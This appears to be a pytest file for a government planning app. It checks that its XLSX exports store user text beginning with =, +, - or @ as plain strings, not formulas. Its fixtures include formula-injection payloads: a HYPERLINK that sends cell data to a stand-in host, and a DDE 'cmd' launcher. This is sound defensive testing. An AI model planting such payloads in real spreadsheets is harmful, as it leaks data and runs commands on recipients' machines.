"""Formula injection: text a user typed that starts with = + - @ comes out of every XLSX as text, unchanged."""

import io

import pytest
from openpyxl import Workbook, load_workbook

from dasar.xlsx import isi, tambah_baris
from lkj.dokumen import services
from lkj.dokumen.models import DokumenRender
from perencanaan.selectors import workbook_ekspor
from perencanaan.workbook import baca_workbook, tulis_workbook
from renja.models import Indikator, Sasaran, Tujuan

JAHAT = {
    "indikator": '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
    "sasaran": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tujuan": "+62 812-3456-7890",
    "formulasi": "-2+3",
}


def _sel_teks(isi_xlsx: bytes) -> dict:
    """Every string-looking cell of a workbook: value → data_type (read as written, formulas not evaluated)."""
    wb = load_workbook(io.BytesIO(isi_xlsx))
    return {c.value: c.data_type for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)}


@pytest.fixture
def teks_jahat(opd):
    ind = Indikator.objects.filter(opd=opd, sasaran__isnull=False).first()
    Indikator.objects.filter(pk=ind.pk).update(uraian=JAHAT["indikator"], formulasi=JAHAT["formulasi"])
    Sasaran.objects.filter(pk=ind.sasaran_id).update(uraian=JAHAT["sasaran"])
    Tujuan.objects.filter(pk=ind.sasaran.tujuan_id).update(uraian=JAHAT["tujuan"])
    from organisasi.versi_data import naikkan_opd

    naikkan_opd(opd.pk)  # QuerySet.update sends no signal


def test_the_helper_writes_every_dangerous_start_as_a_string_cell():
    wb = Workbook()
    ws = wb.active
    for i, awal in enumerate("=+-@", start=1):
        isi(ws.cell(row=i, column=1), f"{awal}1+1")
    tambah_baris(ws, ["=A1", 12, None, "@x"])
    buf = io.BytesIO()
    wb.save(buf)
    sel = _sel_teks(buf.getvalue())
    assert all(sel[f"{awal}1+1"] == "s" for awal in "=+-@")
    assert sel["=A1"] == "s" and sel["@x"] == "s"
    ws2 = load_workbook(io.BytesIO(buf.getvalue())).active
    assert ws2.cell(row=5, column=2).value == 12


@pytest.mark.parametrize("jenis", [DokumenRender.Jenis.E81, DokumenRender.Jenis.LKJ_OPD])
def test_the_e81_and_lkj_spreadsheets_write_typed_text_as_text(opd, teks_jahat, jenis):
    r = services.dokumen_siapkan(jenis=jenis, opd=opd, tahun=2025, triwulan=3, format="xlsx", antrekan=False)
    r = services.dokumen_render(dokumen_id=r.pk)
    assert r.status == DokumenRender.Status.SELESAI, r.pesan
    sel = _sel_teks(r.berkas.open("rb").read())
    for kunci in ("indikator", "sasaran"):
        if jenis == DokumenRender.Jenis.E81 and kunci == "indikator":
            # the form prints the indicator with its formulasi in column 5, as the PDF does
            gabung = f"{JAHAT['indikator']}\n{JAHAT['formulasi']}"
            assert sel.get(gabung) == "s", (kunci, sel.get(gabung))
            continue
        assert sel.get(JAHAT[kunci]) == "s", (kunci, sel.get(JAHAT[kunci]))
    assert not any(t == "f" for t in sel.values())


def test_the_planning_workbook_export_writes_typed_text_as_text_and_reads_it_back_unchanged(opd, teks_jahat):
    isi_xlsx = tulis_workbook(workbook_ekspor(opd, 2025))
    sel = _sel_teks(isi_xlsx)
    for kunci in ("indikator", "sasaran", "tujuan", "formulasi"):
        assert sel.get(JAHAT[kunci]) == "s", kunci
    assert not any(t == "f" for t in sel.values())
    dibaca = baca_workbook(isi_xlsx)
    assert JAHAT["tujuan"] in [r["uraian"] for _n, r in dibaca["Tujuan"]]
    assert JAHAT["indikator"] in [r["uraian"] for _n, r in dibaca["Indikator"]]
